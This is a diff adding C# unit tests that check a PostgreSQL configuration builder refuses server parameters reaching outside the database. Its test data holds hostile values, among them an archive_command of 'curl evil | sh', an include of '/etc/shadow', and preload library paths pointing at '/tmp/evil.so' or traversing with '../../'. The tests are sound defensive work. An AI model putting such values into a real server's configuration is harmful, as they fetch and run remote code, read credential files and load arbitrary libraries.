@@ -51,6 +51,39 @@ public sealed class ServerConfigurationTests
         Assert.DoesNotContain(lines, l => l.StartsWith("rds.", StringComparison.Ordinal));
     }
 
+    [Theory]
+    [InlineData("archive_command", "curl evil | sh")]
+    [InlineData("Archive_Command", "id")]
+    [InlineData("restore_command", "id")]
+    [InlineData("ssl_passphrase_command", "id")]
+    [InlineData("external_pid_file", "/var/lib/cornac/instances/other/n1/data/postmaster.pid")]
+    [InlineData("data_directory", "/tmp/x")]
+    [InlineData("include", "/etc/shadow")]
+    [InlineData("INCLUDE_DIR", "/etc")]
+    [InlineData("dynamic_library_path", "/tmp")]
+    [InlineData("session_preload_libraries", "/tmp/evil.so")]
+    [InlineData("shared_preload_libraries", "pg_stat_statements,../../tmp/evil")]
+    public void Parameter_that_reaches_beyond_the_database_is_refused(string name, string value)
+    {
+        var parameters = new Dictionary<string, string>(StringComparer.Ordinal) { [name] = value };
+
+        var refused = Assert.Throws<EngineException>(() => ServerConfiguration.Settings(Spec with { Parameters = parameters }, Node));
+
+        Assert.Equal(FailureKind.Permanent, refused.Kind);
+        Assert.Contains(name, refused.Message, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("shared_preload_libraries", "pg_stat_statements, auto_explain")]
+    [InlineData("session_preload_libraries", "")]
+    [InlineData("archive_timeout", "300")]
+    public void Parameter_that_stays_within_the_database_is_taken(string name, string value)
+    {
+        var parameters = new Dictionary<string, string>(StringComparer.Ordinal) { [name] = value };
+
+        Assert.Contains($"{name} = '{value}'\n", ServerConfiguration.Settings(Spec with { Parameters = parameters }, Node), StringComparison.Ordinal);
+    }
+
     [Fact]
     public void Configuration_is_the_same_for_the_same_specification() =>
         Assert.Equal(ServerConfiguration.Settings(Spec, Node), ServerConfiguration.Settings(Spec with { Generation = 9 }, Node));
